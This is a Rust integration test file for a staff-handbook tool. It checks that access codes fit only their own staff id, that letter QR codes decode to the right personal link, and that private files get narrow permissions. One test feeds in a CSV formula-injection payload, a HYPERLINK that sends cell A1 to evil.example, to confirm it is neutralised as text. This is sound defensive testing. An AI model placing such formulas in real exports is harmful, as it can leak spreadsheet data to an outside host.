//! Security cases: identity (issue 10, items 2, 3, 4, 9 and 11 on the codes
//! side), through the `handbook` binary and the library. 7 cases:
//!
//! 1. `every_code_is_id_checked_and_fits_no_other_id`: each code `codes`
//!    issues reads back as its own person's key, and typed with any other
//!    person's id (or a replaced code without its `#n`) is refused as
//!    "belongs to a different staff id", not taken as a key.
//! 2. `the_old_27_symbol_codes_are_gone`: a v1 code is refused, whatever
//!    its check symbol.
//! 3. `each_letter_has_a_qr_code_that_opens_that_persons_link`: the inline
//!    SVG QR code on each letter, rendered and decoded, is that person's
//!    personal link (and never another's); the letter says the link stays
//!    in the browser's history and how to avoid it.
//! 4. `codes_csv_neutralises_formula_cells`: roster names, e-mails, schools
//!    and roles starting `=`, `+`, `-` or `@` come out as text.
//! 5. `codes_and_letters_become_private_even_if_they_existed`: 0644 files
//!    are 0600 after `codes`, and `.handbook/` 0755 is 0700.
//! 6. `the_private_folder_is_narrowed_by_every_command_that_uses_it`:
//!    `keys init` and `import` narrow a 0755 `.handbook/` to 0700.
//! 7. `a_replaced_code_opens_nothing_of_the_new_one`: the old and the new
//!    code of one person have different keys, so the per-person progress
//!    and tokens of one are not the other's.
//!
//! The browser side (a code typed with another id refused before the
//! course starts; two people on one browser) is in
//! `tests/it/browser/shared_computer.rs`; the JavaScript side in
//! `tests/js/` (run by `tests/it/js.rs`).

use handbook::records::token::{CodeError, MasterKey, StaffKey, kid};

use crate::support::Site;

const MASTER: [u8; 32] = [7; 32];

const ROSTER: &str = "id,name,email,school,role,generation\n\
                      T001,Ann Able,ann@test.example,Hill School,Teacher,\n\
                      T002,Bob Bell,bob@test.example,Hill School,Teaching assistant,\n\
                      T003,Cy Cole,cy@test.example,Dale School,Teacher,2\n\
                      jo.smith@test.example,Jo Smith,,Dale School,Volunteer,3\n";

const BASE_URL: &str = "https://policies.test.example/social";

fn site() -> Site {
    let site = Site::new();
    site.write(
        ".handbook/master.key",
        MasterKey::from_bytes(MASTER).to_file_text(),
    );
    site.write(".handbook/roster.csv", ROSTER);
    site
}

/// One row of codes.csv: (login typed, id, generation, code, link).
struct Row {
    login: String,
    id: String,
    generation: u32,
    code: String,
    link: String,
}

fn codes_rows(csv: &str) -> Vec<Row> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (id, generation, code, link) = (col("id"), col("generation"), col("code"), col("link"));
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            let generation: u32 = r[generation].parse().unwrap();
            Row {
                login: kid(&r[id], generation),
                id: r[id].to_string(),
                generation,
                code: r[code].to_string(),
                link: r[link].to_string(),
            }
        })
        .collect()
}

#[test]
fn every_code_is_id_checked_and_fits_no_other_id() {
    let site = site();
    let run = site.run(&["codes", ".handbook/roster.csv"]);
    run.expect(0);
    let rows = codes_rows(&run.stdout);
    assert_eq!(rows.len(), 4);
    let master = MasterKey::from_bytes(MASTER);
    for row in &rows {
        // 29 symbols in groups of four: XXXX-XXXX-XXXX-XXXX-XXXX-XXXX-XXXX-X
        let groups: Vec<&str> = row.code.split('-').collect();
        assert_eq!(groups.len(), 8, "{}", row.code);
        assert!(groups[..7].iter().all(|g| g.len() == 4), "{}", row.code);
        assert_eq!(groups[7].len(), 1, "{}", row.code);
        assert_eq!(
            StaffKey::parse_code(&row.code, &row.login),
            Ok(master.staff_key(&row.id, row.generation)),
            "{} reads back as {}'s key",
            row.code,
            row.login
        );
        for other in rows.iter().filter(|o| o.login != row.login) {
            assert_eq!(
                StaffKey::parse_code(&row.code, &other.login),
                Err(CodeError::DifferentId),
                "{}'s code typed with id {}",
                row.login,
                other.login
            );
        }
    }
    // A replaced code typed with the bare id (without `#2`) is not taken.
    let cy = rows.iter().find(|r| r.id == "T003").unwrap();
    assert_eq!(cy.login, "T003#2");
    let refused = StaffKey::parse_code(&cy.code, "T003").unwrap_err();
    assert_eq!(refused, CodeError::DifferentId);
    assert_eq!(
        refused.to_string(),
        "this code belongs to a different staff id; check the id on your letter"
    );
    // A typing mistake is said to be one, whatever the id.
    let mut typo: Vec<char> = cy.code.chars().collect();
    let last = typo.last_mut().unwrap();
    *last = if *last == '0' { '1' } else { '0' };
    let typo: String = typo.into_iter().collect();
    for login in ["T003#2", "T001"] {
        assert_eq!(
            StaffKey::parse_code(&typo, login),
            Err(CodeError::CheckFailed),
            "{typo} with {login}"
        );
    }
}

#[test]
fn the_old_27_symbol_codes_are_gone() {
    // T042's v1 code from the SPEC's first version, and the same with each
    // possible check symbol: all refused for their length.
    let v1 = "7NF8-7N6S-N3BZ-1R75-K4CC-56KZ-9Y";
    for check in "0123456789ABCDEFGHJKMNPQRSTVWXYZ*~$=U".chars() {
        assert_eq!(
            StaffKey::parse_code(&format!("{v1}{check}"), "T042"),
            Err(CodeError::WrongLength(27))
        );
    }
    assert!(
        CodeError::WrongLength(27)
            .to_string()
            .contains("29 letters and digits")
    );
}

/// Decodes the first QR code in an SVG image: rendered with resvg at 3×
/// its size, then read with rqrr. `None` if there is none to read.
fn decode_qr(svg: &str) -> Option<String> {
    let tree = resvg::usvg::Tree::from_str(svg, &resvg::usvg::Options::default()).ok()?;
    let size = tree.size().to_int_size();
    let scale = 3;
    let (w, h) = (size.width() * scale, size.height() * scale);
    let mut pixmap = resvg::tiny_skia::Pixmap::new(w, h)?;
    pixmap.fill(resvg::tiny_skia::Color::WHITE);
    resvg::render(
        &tree,
        resvg::tiny_skia::Transform::from_scale(scale as f32, scale as f32),
        &mut pixmap.as_mut(),
    );
    let mut image = rqrr::PreparedImage::prepare_from_greyscale(w as usize, h as usize, |x, y| {
        pixmap.pixel(x as u32, y as u32).map_or(255, |p| p.red())
    });
    let grids = image.detect_grids();
    let (_, content) = grids.first()?.decode().ok()?;
    Some(content)
}

/// The text between `start` and `end` after `from`, and where it ends.
fn between<'a>(text: &'a str, start: &str, end: &str) -> Option<&'a str> {
    let at = text.find(start)? + start.len();
    let len = text[at..].find(end)?;
    Some(&text[at..at + len])
}

#[test]
fn each_letter_has_a_qr_code_that_opens_that_persons_link() {
    let site = site();
    let yaml = site.read("site.yaml");
    site.write("site.yaml", format!("{yaml}base_url: {BASE_URL}\n"));
    site.run(&[
        "codes",
        ".handbook/roster.csv",
        "--out",
        ".handbook/codes.csv",
        "--letters",
        ".handbook/letters.html",
    ])
    .expect(0);
    let rows = codes_rows(&site.read(".handbook/codes.csv"));
    let letters = site.read(".handbook/letters.html");
    let sections: Vec<&str> = letters.split("<section class=\"letter\"").skip(1).collect();
    assert_eq!(sections.len(), rows.len(), "one letter per person");
    let mut decoded = Vec::new();
    for letter in sections {
        let login = between(letter, "<dt>Your id</dt><dd class=\"code\">", "</dd>")
            .expect("the letter shows the id")
            .replace("&#35;", "#");
        let row = rows
            .iter()
            .find(|r| r.login == login)
            .unwrap_or_else(|| panic!("{login} is in codes.csv"));
        assert!(
            row.link
                .starts_with(&format!("{BASE_URL}/course/index.html#id=")),
            "{}",
            row.link
        );
        let svg = format!(
            "<svg{}</svg>",
            between(letter, "<svg", "</svg>").expect("the letter has an inline SVG")
        );
        assert!(
            svg.contains("role=\"img\"") && svg.contains("<title>"),
            "the QR code has a name for screen readers"
        );
        let content = decode_qr(&svg).unwrap_or_else(|| panic!("{login}'s QR code reads"));
        assert_eq!(content, row.link, "{login}'s QR code opens their own link");
        decoded.push(content);
        // The history warning and the way round it, on every letter.
        assert!(letter.contains("Your link holds your code."), "{letter}");
        assert!(letter.contains("history"), "{letter}");
        assert!(letter.contains("private window"), "{letter}");
        assert!(letter.contains("your own phone, tablet or computer"));
    }
    decoded.sort();
    decoded.dedup();
    assert_eq!(
        decoded.len(),
        rows.len(),
        "every QR code is a different link"
    );
    // No script and no request anywhere: the SVG is inline.
    assert!(!letters.contains("<script") && !letters.contains(" src="));
    assert!(!letters.contains("<?xml"));
    // The decoder is a real check: a QR code of another text does not pass.
    let other = qrcode::QrCode::new(b"https://elsewhere.example/")
        .unwrap()
        .render::<qrcode::render::svg::Color<'_>>()
        .build();
    assert_eq!(
        decode_qr(&other).as_deref(),
        Some("https://elsewhere.example/")
    );
    assert_ne!(
        decode_qr(&other).as_deref(),
        Some(rows[0].link.as_str()),
        "a different link decodes differently"
    );
}

#[test]
fn codes_csv_neutralises_formula_cells() {
    let site = site();
    site.write(
        "staff.csv",
        "id,name,email,school,role\n\
         T001,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",+44 1234@x.example,-Hill,@SUM(A1)\n\
         T002,Plain Name,plain@test.example,Hill School,Teacher\n",
    );
    site.run(&["codes", "staff.csv", "--out", "codes.csv"])
        .expect(0);
    let csv = site.read("codes.csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(
        &rows[0][1],
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(&rows[0][2], "'+44 1234@x.example");
    assert_eq!(&rows[0][3], "'-Hill");
    assert_eq!(&rows[0][4], "'@SUM(A1)");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    // Plain cells, codes and links are unchanged.
    assert_eq!(&rows[1][1], "Plain Name");
    let master = MasterKey::from_bytes(MASTER);
    assert_eq!(&rows[1][6], master.staff_code("T002", 1));
    assert!(rows[1][7].starts_with("#id=T002&code="));
}

#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[cfg(unix)]
fn set_mode(path: &std::path::Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[cfg(unix)]
#[test]
fn codes_and_letters_become_private_even_if_they_existed() {
    let site = site();
    // Letters need the site's address.
    let yaml = site.read("site.yaml");
    site.write(
        "site.yaml",
        format!("{yaml}base_url: https://policy.test.example/\n"),
    );
    site.write(".handbook/codes.csv", "old codes\n");
    site.write(".handbook/letters.html", "old letters\n");
    set_mode(&site.path(".handbook/codes.csv"), 0o644);
    set_mode(&site.path(".handbook/letters.html"), 0o644);
    set_mode(&site.path(".handbook"), 0o755);
    site.run(&[
        "codes",
        ".handbook/roster.csv",
        "--out",
        ".handbook/codes.csv",
        "--letters",
        ".handbook/letters.html",
    ])
    .expect(0);
    assert_eq!(mode(&site.path(".handbook/codes.csv")), 0o600);
    assert_eq!(mode(&site.path(".handbook/letters.html")), 0o600);
    assert_eq!(mode(&site.path(".handbook")), 0o700);
    assert!(site.read(".handbook/codes.csv").starts_with("id,name,"));
    assert!(
        site.read(".handbook/letters.html")
            .starts_with("<!DOCTYPE html>")
    );
    // Outside .handbook/ too: the files hold everyone's codes.
    site.write("codes.csv", "old\n");
    set_mode(&site.path("codes.csv"), 0o644);
    site.run(&["codes", ".handbook/roster.csv", "--out", "codes.csv"])
        .expect(0);
    assert_eq!(mode(&site.path("codes.csv")), 0o600);
}

#[cfg(unix)]
#[test]
fn the_private_folder_is_narrowed_by_every_command_that_uses_it() {
    // keys init: on a folder made by hand (0755), before the key is written.
    let fresh = Site::new();
    std::fs::create_dir(fresh.path(".handbook")).unwrap();
    set_mode(&fresh.path(".handbook"), 0o755);
    fresh.run(&["keys", "init"]).expect(0);
    assert_eq!(mode(&fresh.path(".handbook")), 0o700);
    assert_eq!(mode(&fresh.path(".handbook/master.key")), 0o600);

    // import (which opens the ledger there), on a folder restored as 0755.
    let site = site();
    set_mode(&site.path(".handbook"), 0o755);
    site.run_with_stdin(&["import", "-"], b"no tokens here\n");
    assert_eq!(mode(&site.path(".handbook")), 0o700);
}

#[test]
fn a_replaced_code_opens_nothing_of_the_new_one() {
    let master = MasterKey::from_bytes(MASTER);
    let old = master.staff_key("T003", 1);
    let new = master.staff_key("T003", 2);
    assert_ne!(old, new);
    assert_ne!(old.signing_key(), new.signing_key());
    let old_code = master.staff_code("T003", 1);
    let new_code = master.staff_code("T003", 2);
    assert_ne!(old_code, new_code);
    // The old code typed with the new id is refused at once.
    assert_eq!(
        StaffKey::parse_code(&old_code, "T003#2"),
        Err(CodeError::DifferentId)
    );
    assert_eq!(StaffKey::parse_code(&new_code, "T003#2"), Ok(new));
}
